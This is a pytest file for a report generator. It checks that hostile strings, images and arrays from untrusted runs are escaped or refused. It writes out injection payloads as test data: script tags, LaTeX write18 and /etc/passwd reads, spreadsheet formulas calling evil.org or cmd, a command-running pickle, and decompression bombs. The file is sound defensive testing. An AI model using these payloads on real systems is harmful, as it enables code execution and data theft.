"""Texts, pictures and arrays of a stranger's run in a report: shown as they stand, or left out, never obeyed."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from rich.console import Console

from experiments.errors import UserError
from experiments.report import sequences
from experiments.report.blocks.media import gallery
from experiments.report.blocks.templates import FOLDER
from experiments.report.comparison.report import Comparison
from experiments.report.sequences import read_sequences
from tests.experiments.report.conftest import COUNT, Runs

# What is tried: a text that would do something in one of the places where a report shows it.
TEXTS = {
    "a script in HTML": "<script>alert(1)</script>",
    "a handler in HTML": "<img src=x onerror=alert(2)>",
    "an attribute in HTML": '" onmouseover="alert(3)',
    "the end of HTML's title": "</title></style><iframe src=//evil.org>",
    "a template of Jinja": "{{ 7*7 }}{% include '/etc/passwd' %}",
    "a link in Markdown": "[click](javascript:alert(4))",
    "a picture in Markdown": "![x](http://evil.org/x.png)",
    "a table in Markdown": "a | b | c",
    "the end of Markdown's code": "``` <b>5</b> ~~~",
    "a command of LaTeX": r"\immediate\write18{touch canary}",
    "a file for LaTeX": r"\input{/etc/passwd}",
    "a character of TeX": "^^5cinput{6}",
    "an argument of LaTeX's row": "[9999cm]",
    "a comment of LaTeX": "100 % \\end{document}",
    "a formula of a spreadsheet": '=HYPERLINK("http://evil.org?"&A1)',
    "a formula by plus": "+1+cmd|' /C calc'!A0",
    "a formula by minus": "-2+3+cmd|' /C calc'!A0",
    "a formula by at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a formula behind a space": " =1+1",
    "broken mathematics in a picture": r"$\frac{$",
    "markup of rich": "[red]x[/] [link=file:///etc/passwd]y[/link] [/nothing]",
    "a format of Python": "{0.__class__.__mro__} %s %(x)n",
    "a label that matplotlib hides": "_hidden",
    "the words of a null": "None",
}


@pytest.fixture
def runs(tmp_path: Path) -> Runs:
    return Runs(tmp_path / "runs")


class Reader(HTMLParser):
    """The tags of a page, what they would load or run, and its text."""

    def __init__(self, text: str):
        super().__init__()
        self.last = ""
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.sources: list[str] = []
        self.texts: list[str] = []
        self.scripts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.last = tag
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.sources += [value or "" for name, value in attrs if name in ("src", "href", "data", "srcset", "action")]

    def handle_data(self, data: str) -> None:
        (self.scripts if self.last == "script" and data.strip() else self.texts).append(data)

    def handle_endtag(self, tag: str) -> None:
        self.last = ""


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Comparison:
    """A comparison in which every text is a model's label, and the reason why one of its runs failed, and a caution."""
    runs = Runs(tmp_path_factory.mktemp("runs"))
    bounds = np.random.default_rng(0).normal(-100.0, 30.0, COUNT)
    rows = {
        text: [runs.done(bounds, kind="exact", cautions=[text]), runs.failed(text, seed=1)] for text in TEXTS.values()
    }
    for job, _ in rows.values():
        job.run.metrics.path.unlink()  # a picture has no room for so many models
    folder = tmp_path_factory.mktemp("report")
    comparison = Comparison(rows)
    comparison.write(folder, TEXTS["a script in HTML"], "python -m x ```")
    return comparison


@pytest.fixture(scope="module")
def page(written: Comparison) -> Reader:
    return Reader(written.files[0].read_text())


def test_a_page_has_no_tag_handler_or_address_of_a_stranger(page: Reader):
    assert not page.tags & {"iframe", "object", "embed", "link", "base", "form", "a"}
    assert page.scripts == [(FOLDER / "page.js").read_text(encoding="utf-8")]  # the page's own, and without attributes
    assert not page.handlers
    assert all(source.startswith("data:") for source in page.sources)


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_stands_in_the_page_as_it_is(page: Reader, name: str):
    assert any(text.strip() == TEXTS[name].strip() for text in page.texts)


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_escaped_in_markdown(written: Comparison, name: str):
    words = " ".join(TEXTS[name].split())
    assert written.files[1].read_text().count(re.sub(r"([\\`*_\[\]<>|~$#])", r"\\\1", words)) >= 3


def test_markdown_has_no_tag_link_picture_or_column_of_a_stranger(written: Comparison):
    markdown, _, code = written.files[1].read_text().partition("\n\n````bash\n")
    assert code == "python -m x ```\n````\n"
    bare = re.sub(r"\\.", "", markdown)  # what is escaped does nothing
    assert not re.search(r"<|\]\((?!figures/)|`|^#.*x", bare)
    table = bare[bare.index("\n| ") :].strip().partition("\n\n")[0]
    assert {line.count("|") for line in table.splitlines()} == {len(written.table.columns) + 1}


def test_latex_has_no_command_of_a_stranger(written: Comparison):
    tex = written.files[2].read_text()
    body = tex[tex.index(r"\midrule") : tex.rindex("References")]
    ours = (
        "midrule|multicolumn|emph|textbackslash|textasciicircum|sim|leq|geq|pm|boldmath|textbf|dagger|[&%$#_{}]|,|"
        r"\\(?=\n)"
    )
    assert not re.findall(r"\\([A-Za-z]+|.)", re.sub(rf"\\({ours})", "", body))
    assert "^^" not in body
    assert not re.search(r"\\\\\s*[\[*]", body)
    lines = body[: body.rindex("\n\\midrule")].splitlines()
    cells = len(written.table.columns) + sum(written.table.errors)
    assert {len(re.findall(r"(?<!\\)&", line)) + 1 for line in lines[1:]} == {cells}
    assert not re.search(r"(?<!\\)%", body)
    for text in ("immediate", "passwd", "9999cm", "5cinput", "end"):
        assert text in body


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_no_formula_of_a_spreadsheet(written: Comparison, name: str):
    lines = list(csv.DictReader(io.StringIO(written.files[3].read_text())))
    found = [line["row"] for line in lines if line["row"].lstrip("'") == TEXTS[name]]
    assert len(found) == 2
    cells = [cell for line in lines for cell in line.values() if cell]
    numbers = [cell for cell in cells if re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)]
    assert any(number.startswith("-") for number in numbers)  # they stay numbers
    assert not [cell for cell in cells if cell.lstrip(" ")[:1] in ("=", "+", "-", "@") and cell not in numbers]


def test_a_terminal_shows_texts_as_they_are(written: Comparison):
    with Path("/dev/null").open("w") as nowhere:
        console = Console(width=300, record=True, file=nowhere)
        console.print(written.terminal())
    shown = console.export_text(styles=True)
    for text in TEXTS.values():
        assert " ".join(text.split()) in " ".join(shown.replace("\x1b[1m", "").replace("\x1b[0m", "").split())
    assert "\x1b]8" not in shown  # a link
    assert "\x1b[31m" not in shown  # red


def test_a_label_is_no_formula_of_a_picture_and_in_its_legend(runs: Runs, tmp_path: Path):
    labels = [TEXTS["broken mathematics in a picture"], TEXTS["a label that matplotlib hides"], "$x^2$"]
    comparison = Comparison({label: [runs.done(np.zeros(COUNT))] for label in labels})
    for _, svg in comparison.draw(tmp_path).values():
        names = [html.unescape(name).strip() for name in re.findall("<!-- (.*?) -->", svg)]
        assert {name.removesuffix(" (≥)") for name in names} >= set(labels)


def png(width: int, height: int, text: bytes = b"") -> bytes:
    """A PNG that says that it has this size, with nine pixels in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)

    head = chunk(b"IHDR", width.to_bytes(4) + height.to_bytes(4) + b"\x08\x00\x00\x00\x00")
    end = chunk(b"IDAT", zlib.compress(bytes(12))) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + text + end


def figures(folder: Path) -> Path:
    """The figures of a run: two pictures and a sound."""
    (folder / "figures").mkdir(parents=True)
    for name, content in {"samples.png": WHOLE, "reconstructions.png": WHOLE, "samples_sample.wav": SOUND}.items():
        (folder / "figures" / name).write_bytes(content)
    return folder / "figures"


WHOLE = png(3, 3)
SOUND = b"RIFF\x00\x00\x00\x00WAVE"
SECRET = "the secret of another folder"
MEDIA = {
    "a picture of 10^10 pixels": ("samples.png", png(100_000, 100_000)),
    "a picture of 10^8 pixels": ("samples.png", png(10_000, 10_000)),
    "a picture without pixels": ("samples.png", png(0, 0)),
    "a picture that is a page": ("samples.png", b"<svg onload=alert(1)>" + SECRET.encode()),
    "a picture that is Postscript": ("samples.png", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n"),
    "a picture with a text that unpacks to much": (
        "samples.png",
        png(9, 9, (20).to_bytes(4) + b"zTXt" + zlib.compress(bytes(10**7))[:20] + bytes(4)),
    ),
    "a picture cut short": ("samples.png", png(9, 9)[:40]),
    "a sound that is a text": ("samples_sample.wav", SECRET.encode()),
    "an empty sound": ("samples_sample.wav", b""),
}


def test_what_a_run_has_drawn_is_embedded(tmp_path: Path):
    shown, rest = gallery({"a": figures(tmp_path / "run")})
    assert (shown.heading, rest.heading) == ("", "Reconstructions")
    assert [title for title, _ in shown.pictures[0].sounds] == ["sample"]


@pytest.mark.parametrize("name", MEDIA)
def test_what_is_no_picture_or_sound_is_left_out(tmp_path: Path, name: str):
    folder = figures(tmp_path / "run")
    file, content = MEDIA[name]
    (folder / file).write_bytes(content)
    parts = gallery({"a": folder})
    if file.endswith(".wav"):
        assert not parts[0].pictures[0].sounds
    else:
        assert [part.heading for part in parts] == ["Reconstructions"]  # which are whole


@pytest.mark.parametrize("absolute", [True, False])
@pytest.mark.parametrize("name", ["samples.png", "samples_sample.wav", "the folder"])
def test_what_a_link_leads_to_is_not_embedded(tmp_path: Path, name: str, absolute: bool):
    own, other = figures(tmp_path / "run"), figures(tmp_path / "other")
    if name == "the folder":
        own.rename(tmp_path / "former")
        own.symlink_to(other if absolute else "../other/figures")
        assert gallery({"a": own}) == []
        return
    (own / name).unlink()
    (own / name).symlink_to(other / name if absolute else f"../../other/figures/{name}")
    assert (own / name).is_file()
    parts = gallery({"a": own})
    assert parts[0].heading == "Reconstructions" if name.endswith("png") else not parts[0].pictures[0].sounds


def npz(file: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


class Canary:
    """Unpickled, it makes a file."""

    def __reduce__(self):
        return (Path.touch, (Path("canary"),))


GOOD = {"bounds": np.zeros(4), "lengths": np.full(4, 6), "kl_by_step": np.zeros(6)}
ARRAYS = {
    "pickled bounds": {"bounds": np.array([Canary()] * 4, dtype=object)},
    "bounds of text": {"bounds": np.array(["a", "b", "c", "d"])},
    "bounds of whole numbers": {"bounds": np.zeros(4, dtype=int)},
    "bounds that are not finite": {"bounds": np.array([0.0, np.nan, 0.0, 0.0])},
    "bounds in two dimensions": {"bounds": np.zeros((4, 1))},
    "a bound too many": {"bounds": np.zeros(5)},
    "lengths of fractions": {"lengths": np.full(4, 6.5)},
    "negative lengths": {"lengths": np.full(4, -6)},
    "lengths of 2^62": {"lengths": np.full(5, 2**62)},
    "steps that no sequence has": {"kl_by_step": np.zeros(10**6)},
}


@pytest.mark.parametrize("name", ARRAYS)
def test_arrays_of_another_kind_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str):
    monkeypatch.chdir(tmp_path)
    file = tmp_path / "test_sequences.npz"
    npz(file, {f"{key}.npy": npy(array) for key, array in {**GOOD, **ARRAYS[name]}.items()})
    with pytest.raises(UserError, match=r"^.*test_sequences\.npz: these are not the bounds"):
        read_sequences(file)
    assert not (tmp_path / "canary").exists()


FILES = {
    "a pickle in place of an archive": b"\x80\x04cposix\nsystem\nS'touch canary'\n\x85R.",
    "nothing at all": b"",
    "a text": b"bounds: 1\n",
    "an array in place of an archive": npy(np.array([Canary()], dtype=object)),
}


@pytest.mark.parametrize("name", FILES)
def test_files_of_another_kind_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "test_sequences.npz").write_bytes(FILES[name])
    with pytest.raises(UserError, match=r"test_sequences\.npz: these are not the bounds"):
        read_sequences(tmp_path / "test_sequences.npz")
    assert not (tmp_path / "canary").exists()


def test_an_archive_that_unpacks_to_much_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(sequences, "MOST_BYTES", 2**20)
    head = npy(np.zeros(1))[:128].replace(b"(1,)", b"(9999999999,)")
    npz(tmp_path / "bomb.npz", {"bounds.npy": head + bytes(2**21)})
    assert (tmp_path / "bomb.npz").stat().st_size < 20_000
    with pytest.raises(UserError, match=r"2,097,\d+ bytes, expected at most 1,048,576"):
        read_sequences(tmp_path / "bomb.npz")


def test_whole_arrays_are_read(tmp_path: Path):
    np.savez(tmp_path / "whole.npz", **GOOD, other=np.zeros(3))
    found = read_sequences(tmp_path / "whole.npz")
    assert {name: array.tolist() for name, array in found.items()} == {k: v.tolist() for k, v in GOOD.items()}
    assert read_sequences(tmp_path / "none.npz") == {}
